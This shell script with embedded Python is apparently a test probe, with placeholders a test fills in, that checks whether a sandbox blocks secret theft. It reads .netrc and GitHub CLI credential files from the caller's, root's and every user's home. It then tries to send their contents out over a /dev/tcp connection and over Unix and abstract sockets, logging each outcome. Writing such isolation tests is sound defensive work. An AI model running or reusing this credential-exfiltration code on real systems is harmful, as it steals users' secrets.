# Read the caller's secrets and send them out (placeholders are filled in by the test).
phase="$1"
loot=""
for f in "@HOME@/.netrc" "@HOME@/.config/gh/hosts.yml" "$HOME/.netrc" /root/.netrc /root/.config/gh/hosts.yml \
         /home/*/.netrc /home/*/.config/gh/hosts.yml; do
  if [ -r "$f" ]; then loot="$loot $(cat "$f" | tr '\n' ' ')"; echo "SNOOP-READ $f"; fi
done
echo "SNOOP-$phase read $(printf '%s' "$loot" | wc -c) bytes"
(exec 3<>/dev/tcp/127.0.0.1/@PORT@ && printf 'LEAK-%s tcp %s\n' "$phase" "$loot" >&3) 2>/dev/null && echo "SNOOP-TCP-CONNECTED"
/usr/bin/python3 - "$phase" "$loot" <<'PY' 2>/dev/null
import socket, sys
phase, loot = sys.argv[1], sys.argv[2]
for name, addr in (("unix", "@UNIX@"), ("abstract", "\0@ABSTRACT@")):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(addr)
        s.sendall(f"LEAK-{phase} {name} {loot}\n".encode())
        s.close()
        print(f"SNOOP-{name.upper()}-CONNECTED")
    except OSError as exc:
        print(f"SNOOP-{name.upper()}-REFUSED {exc.__class__.__name__}")
PY
exit 0
